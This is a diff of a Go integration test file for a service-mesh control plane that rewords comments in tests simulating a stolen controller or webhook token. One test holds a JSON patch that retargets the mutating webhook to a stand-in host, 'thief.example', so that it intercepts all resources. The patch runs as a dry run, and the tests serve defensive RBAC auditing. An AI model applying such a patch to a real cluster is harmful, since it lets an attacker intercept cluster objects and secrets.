@@ -21,13 +21,13 @@ import (
 	"github.com/isthmus-mesh/isthmus/test/framework/environment"
 )
 
-// pollInterval is how often a condition is looked at.
+// pollInterval is the time between two checks of an awaited condition.
 const pollInterval = 50 * time.Millisecond
 
 var dryRun = []string{"All"}
 
-// TestStolenControllerToken tries what test/integration/rbac does not: by the real
-// token, on the control plane with everything running.
+// TestStolenControllerToken tries what test/integration/rbac does not: with the real token,
+// on a control plane where everything runs.
 func TestStolenControllerToken(t *testing.T) {
 	sharedServers(t)
 	ns := env.CreateNamespace(t, nil, "edge", "other")
@@ -46,8 +46,9 @@ func TestStolenControllerToken(t *testing.T) {
 	t.Run("it reads the Secrets of edges", func(t *testing.T) {
 		assert.NoError(t, readSecret(ns, "istio-certs")(t.Context(), controller))
 	})
-	// RBAC grants the patch of an object, not of a field, and no policy is asked about
-	// configurations of webhooks: docs/security.md says what follows.
+	// RBAC grants the patch of an object, not of a field, and the API server calls no
+	// admission policy for webhook configurations: docs/security.md explains the
+	// consequences.
 	t.Run("it has the webhook sent what it likes, where the certificate is self-managed", func(t *testing.T) {
 		patch := `[{"op":"replace","path":"/webhooks/0/rules/0/resources","value":["*"]},{"op":"replace","path":"/webhooks/0/clientConfig","value":{"url":"https://thief.example"}}]`
 		_, err := controller.AdmissionregistrationV1().MutatingWebhookConfigurations().Patch(t.Context(), "isthmus-injector", types.JSONPatchType, []byte(patch), metav1.PatchOptions{DryRun: dryRun})
@@ -128,7 +129,7 @@ func TestStolenControllerToken(t *testing.T) {
 	})
 }
 
-// TestStolenWebhookToken: the webhook's account reads, and writes nothing.
+// TestStolenWebhookToken checks that the webhook's account reads, and writes nothing.
 func TestStolenWebhookToken(t *testing.T) {
 	sharedServers(t)
 	ns := env.CreateNamespace(t, nil, "edge")
@@ -174,9 +175,9 @@ func createBinding(namespace, name, role string) attempt {
 	}
 }
 
-// TestWhoReadsTheKey asks about every account, and about the roles that Kubernetes
-// brings: who may read Secrets of the namespace may read this one. The controller
-// manager, which does not run here, puts view and edit together from these two.
+// TestWhoReadsTheKey checks every account, and the default roles of Kubernetes: whoever may
+// read Secrets of the namespace may read this one. The controller manager, which does not
+// run here, aggregates view and edit from these two roles.
 func TestWhoReadsTheKey(t *testing.T) {
 	sharedServers(t)
 	ns := env.CreateNamespace(t, nil, "edge", "viewer", "editor", "neighbour")
